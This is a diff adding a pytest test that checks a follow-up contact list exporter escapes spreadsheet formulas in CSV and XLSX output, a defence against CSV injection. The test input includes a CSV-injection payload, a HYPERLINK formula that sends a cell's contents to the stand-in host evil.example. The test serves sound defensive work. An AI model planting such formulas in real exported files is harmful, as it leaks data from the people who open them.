@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import re
 import shutil
 import subprocess
@@ -118,3 +119,22 @@ def test_format_comes_from_the_extension_or_is_refused(tmp_path: Path) -> None:
     with pytest.raises(Exception) as info:
         format_of(tmp_path / "a.docx")
     assert "docx" in str(info.value)
+
+
+def test_stored_text_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """OWASP CSV injection: a name or address starting with = + - @ is text in CSV (leading
+    apostrophe) and a string cell in XLSX (read back as the stored text, not a formula)."""
+    from outreach.reports.lists import write_follow_up_list
+    from outreach.services.coverage import FollowUpContact
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
+    row = FollowUpContact("v1", dt.date(2026, 11, 25), False, hostile, "@SUM(1+1)", "+84912345678", "-Tổ 1", "Lan", "helped", None)
+    xlsx = write_follow_up_list([row], tmp_path / "list.xlsx")
+    sheet = load_workbook(xlsx).active
+    assert sheet is not None
+    cells = {c.value: c.data_type for c in sheet[2]}
+    assert cells[hostile] == "s" and cells["@SUM(1+1)"] == "s" and cells["+84912345678"] == "s"
+    assert not any(t == "f" for t in cells.values())
+    with write_follow_up_list([row], tmp_path / "list.csv").open(encoding="utf-8-sig", newline="") as fh:
+        written = list(csv.reader(fh))[1]
+    assert written[2] == "'" + hostile and written[3] == "'@SUM(1+1)" and written[4] == "'+84912345678" and written[5] == "'-Tổ 1"
